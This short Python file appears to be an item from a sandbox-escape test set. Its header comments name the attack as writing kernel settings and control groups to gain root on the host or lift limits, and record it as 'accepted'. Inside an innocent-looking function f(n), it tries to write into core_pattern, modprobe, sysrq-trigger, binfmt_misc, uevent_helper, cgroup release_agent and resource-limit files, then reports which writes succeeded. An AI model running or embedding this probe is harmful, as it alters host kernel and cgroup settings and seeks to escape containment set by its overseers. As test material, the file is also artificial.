# attack: writing the kernel's settings and control groups, to run a program as root on the machine or to lift limits
# held by: no rights, read-only mounts, and no control groups inside
# time: 3000
# outcome: accepted
import glob, os


def f(n):
    found = []
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/proc/self/uid_map",
             "/proc/self/setgroups", "/proc/1/oom_score_adj", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper"]
    paths += glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True) + glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)
    paths += glob.glob("/sys/fs/cgroup/**/*limit_in_bytes", recursive=True) + glob.glob("/sys/fs/cgroup/**/pids.max", recursive=True)
    for path in paths:
        try:
            os.write(os.open(path, os.O_WRONLY), b"0")
            found.append(path)
        except OSError:
            pass
    print(found)
    return n + 1 if not found else 0
